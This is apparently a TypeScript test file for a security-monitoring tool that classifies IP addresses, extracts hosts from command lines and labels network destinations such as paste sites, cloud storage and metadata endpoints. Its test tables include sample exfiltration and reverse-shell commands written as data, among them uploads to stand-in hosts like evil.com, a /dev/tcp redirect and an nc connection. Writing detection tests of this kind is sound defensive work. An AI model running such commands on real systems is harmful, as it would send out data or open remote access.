import { expect } from 'chai';

import { hostsOfCommandLine } from '../../src/enrichment/command-hosts.ts';
import { DestinationDerivation } from '../../src/enrichment/destination.ts';
import { addressKind } from '../../src/enrichment/ip-address.ts';
import { event, policy } from './events.ts';

describe('address kinds', () => {
  // [address, kind]
  const table: readonly (readonly [string, string | undefined])[] = [
    ['127.0.0.1', 'loopback'],
    ['127.255.255.255', 'loopback'],
    ['128.0.0.1', 'public'],
    ['10.0.0.1', 'private'],
    ['11.0.0.1', 'public'],
    ['172.15.0.1', 'public'],
    ['172.16.0.1', 'private'],
    ['172.31.255.255', 'private'],
    ['172.32.0.1', 'public'],
    ['192.168.1.1', 'private'],
    ['192.169.1.1', 'public'],
    ['100.63.0.1', 'public'],
    ['100.64.0.1', 'private'],
    ['100.128.0.1', 'public'],
    ['169.254.1.1', 'private'],
    ['169.254.169.254', 'metadata'],
    ['224.0.0.251', 'private'],
    ['223.255.255.255', 'public'],
    ['0.0.0.0', 'private'],
    ['256.1.1.1', undefined],
    ['1.2.3', undefined],
    ['::1', 'loopback'],
    ['::', 'private'],
    ['fe80::1%eth0', 'private'],
    ['fd12:3456::1', 'private'],
    ['fd00:ec2::254', 'metadata'],
    ['ff02::1', 'private'],
    ['2001:db8::1', 'public'],
    ['::ffff:10.0.0.1', 'private'],
    ['::ffff:198.51.100.7', 'public'],
    ['2001::db8::1', undefined],
    ['abc', undefined],
    ['a:b', undefined],
    ['', undefined],
  ];
  for (const [text, kind] of table) {
    it(`${text} is ${kind ?? 'no address'}`, () => {
      expect(addressKind(text)).to.equal(kind);
    });
  }
});

describe('hosts of a command line', () => {
  // [command line, hosts]
  const table: readonly (readonly [string, readonly string[]])[] = [
    ['curl https://Paste.Example.net/api?x=1', ['paste.example.net']],
    ['curl -d @f https://user:pw@a.example:8443/x', ['a.example']],
    ['powershell -c "irm -Uri \'https://a.example/x\'"', ['a.example']],
    ['curl http://[2001:db8::1]:80/', ['2001:db8::1']],
    ['bash -c "cat x > /dev/tcp/198.51.100.7/443"', ['198.51.100.7']],
    ['curl -d x paste.example.com/api', ['paste.example.com']],
    ['curl -T secrets.zip -o out.example.com drop.example.com', ['drop.example.com']],
    ['curl -d @data.com evil.com', ['evil.com']],
    ['wget -O - evil.com', ['evil.com']],
    ['nc 198.51.100.7 4444', ['198.51.100.7']],
    ['scp a.txt ana@host.example.com:/tmp', ['host.example.com']],
    ['nslookup abc.evil.com', ['abc.evil.com']],
    ['curl ./upload.sh', []],
    ['curl --help script.sh main.py archive.zip', []],
    ['curl script.sh/path', ['script.sh']],
    ['python main.py data.com', []],
    ['node app.js', []],
    ['git status', []],
    ['', []],
    ['echo http://', []],
    ['curl https://a.example https://b.example', ['a.example', 'b.example']],
  ];
  for (const [text, hosts] of table) {
    it(JSON.stringify(text), () => {
      expect(hostsOfCommandLine(text)).to.deep.equal(hosts);
    });
  }

  it('stop at a number of hosts', () => {
    const urls = Array.from({ length: 100 }, (_, n) => `https://h${String(n)}.example`).join(' ');
    expect(hostsOfCommandLine(urls)).to.have.length(16);
  });
});

describe('destination', () => {
  const derivation = new DestinationDerivation();
  // [fields, class, host, registered domain, source]
  const table: readonly (readonly [
    Readonly<Record<string, string>>,
    ...(readonly (string | undefined)[]),
  ])[] = [
    [
      { DestinationHostname: 'a.b.example.co.uk' },
      'unknown',
      'a.b.example.co.uk',
      'example.co.uk',
      'hostname',
    ],
    [
      { DestinationHostname: 'KNOWN.example.com.' },
      'known',
      'known.example.com',
      'example.com',
      'hostname',
    ],
    [
      { DestinationHostname: 'other.example.com' },
      'unknown',
      'other.example.com',
      'example.com',
      'hostname',
    ],
    [{ DestinationHostname: 'x.vendor.com' }, 'known', 'x.vendor.com', 'vendor.com', 'hostname'],
    [
      { DestinationHostname: 'a.b.vendor.com' },
      'known',
      'a.b.vendor.com',
      'vendor.com',
      'hostname',
    ],
    [{ DestinationHostname: 'vendor.com' }, 'unknown', 'vendor.com', 'vendor.com', 'hostname'],
    [
      { DestinationHostname: 'evilvendor.com' },
      'unknown',
      'evilvendor.com',
      'evilvendor.com',
      'hostname',
    ],
    [
      { DestinationHostname: 'runtime.eu.cloud.com' },
      'known',
      'runtime.eu.cloud.com',
      'cloud.com',
      'hostname',
    ],
    [
      { DestinationHostname: '-', DestinationIp: '198.51.100.7' },
      'raw_ip',
      '198.51.100.7',
      undefined,
      'ip',
    ],
    [{ DestinationIp: '203.0.113.9' }, 'known', '203.0.113.9', undefined, 'ip'],
    [
      { DestinationHostname: 'x.vendor.com', DestinationIp: '198.51.100.7' },
      'known',
      'x.vendor.com',
      'vendor.com',
      'hostname',
    ],
    [{ DestinationIp: '10.1.2.3' }, 'private', '10.1.2.3', undefined, 'ip'],
    [{ DestinationIp: '::1' }, 'loopback', '::1', undefined, 'ip'],
    [{ DestinationIp: '169.254.169.254' }, 'metadata', '169.254.169.254', undefined, 'ip'],
    [{ DestinationHostname: 'localhost' }, 'loopback', 'localhost', undefined, 'hostname'],
    [{ DestinationHostname: 'printer' }, 'private', 'printer', undefined, 'hostname'],
    [{ DestinationHostname: 'nas.local' }, 'private', 'nas.local', undefined, 'hostname'],
    [
      { DestinationHostname: 'metadata.google.internal' },
      'metadata',
      'metadata.google.internal',
      undefined,
      'hostname',
    ],
    [{ QueryName: 'abc.evil.com' }, 'unknown', 'abc.evil.com', 'evil.com', 'hostname'],
    [
      { CommandLine: 'curl https://x.vendor.com https://evil.com' },
      'unknown',
      'evil.com',
      'evil.com',
      'command_line',
    ],
    [
      { CommandLine: 'curl https://x.vendor.com' },
      'known',
      'x.vendor.com',
      'vendor.com',
      'command_line',
    ],
    [{ CommandLine: 'git status' }, undefined],
    [{}, undefined],
  ];
  for (const [fields, kind, host, domain, source] of table) {
    it(`${JSON.stringify(fields)} is ${kind ?? 'none'}`, () => {
      const category = 'CommandLine' in fields ? 'process_creation' : 'network_connection';
      const found = event(category, 0, undefined, fields);
      derivation.derive(found, policy);
      const told = (name: string): unknown => found.derived.get(`tidegate.destination.${name}`);
      expect([
        told('class'),
        told('host'),
        told('registered_domain'),
        told('source'),
      ]).to.deep.equal([kind, host, domain, source]);
    });
  }

  it('of a command line counts only for the launch itself', () => {
    const read = event('file_access', 0, undefined, { CommandLine: 'curl https://evil.com' });
    derivation.derive(read, policy);
    expect(read.derived.size).to.equal(0);
  });

  it('is judged by the policy at hand', () => {
    const other = {
      agent: () => undefined,
      list: (name: string) => (name === 'known_destinations' ? ['evil.com'] : []),
    };
    for (const [each, kind] of [
      [other, 'known'],
      [policy, 'unknown'],
    ] as const) {
      const found = event('network_connection', 0, undefined, { DestinationHostname: 'evil.com' });
      derivation.derive(found, each);
      expect(found.derived.get('tidegate.destination.class')).to.equal(kind);
    }
  });
});

describe('destination classes of services', () => {
  const lists: Readonly<Record<string, readonly string[]>> = {
    enterprise_destinations: ['*.corp.example'],
    sanctioned_destinations: ['backup.s3.amazonaws.com'],
    known_destinations: ['github.com'],
    model_endpoints: ['api.model.example'],
    cloud_storage: ['*.s3.amazonaws.com', 'storage.googleapis.com', '*.storage.googleapis.com'],
    paste_sites: ['gist.github.com'],
    webhook_receivers: ['hooks.chat.example'],
    mail_services: ['smtp.mail.example'],
    code_hosts: ['github.com', '*.github.com'],
  };
  const own = { agent: () => undefined, list: (name: string) => lists[name] };
  const of = (category: string, fields: Readonly<Record<string, string>>): unknown => {
    const each = event(category, 0, undefined, fields);
    new DestinationDerivation().derive(each, own);
    const { derived } = each;
    return [
      derived.get('tidegate.destination.class'),
      derived.get('tidegate.destination.service'),
      derived.get('tidegate.destination.host'),
    ];
  };
  // [host, class, service]
  const table: readonly (readonly [string, string, string | undefined])[] = [
    ['files.corp.example', 'enterprise', undefined],
    ['backup.s3.amazonaws.com', 'sanctioned', 'cloud_storage'],
    ['drop.s3.amazonaws.com', 'cloud_storage', 'cloud_storage'],
    ['github.com', 'known', 'code_host'],
    ['api.github.com', 'code_host', 'code_host'],
    ['gist.github.com', 'paste_site', 'paste_site'],
    ['api.model.example', 'model_endpoint', 'model_endpoint'],
    ['hooks.chat.example', 'webhook', 'webhook'],
    ['smtp.mail.example', 'mail', 'mail'],
    ['nobody.example.net', 'unknown', undefined],
  ];
  for (const [host, trust, service] of table) {
    it(`${host} is ${trust}`, () => {
      expect(of('network_connection', { DestinationHostname: host })).to.deep.equal([
        trust,
        service,
        host,
      ]);
    });
  }

  it('buckets stand for the host that serves them', () => {
    expect(of('process_creation', { CommandLine: 'aws s3 cp a s3://Drop/x' })).to.deep.equal([
      ...['cloud_storage', 'cloud_storage', 'drop.s3.amazonaws.com'],
    ]);
    expect(of('process_creation', { CommandLine: 'gsutil cp a gs://drop/x' })).to.deep.equal([
      ...['cloud_storage', 'cloud_storage', 'drop.storage.googleapis.com'],
    ]);
  });

  it('requests are judged by their address', () => {
    expect(of('proxy', { 'c-uri': 'https://gist.github.com:443/x?y' })).to.deep.equal([
      ...['paste_site', 'paste_site', 'gist.github.com'],
    ]);
    expect(of('proxy', { 'c-uri': '/x' })).to.deep.equal([undefined, undefined, undefined]);
  });

  it('the least to be trusted of a command line counts', () => {
    const CommandLine = 'curl https://api.model.example -F f=@x https://gist.github.com/';
    expect(of('process_creation', { CommandLine })).to.deep.equal([
      ...['paste_site', 'paste_site', 'gist.github.com'],
    ]);
  });
});
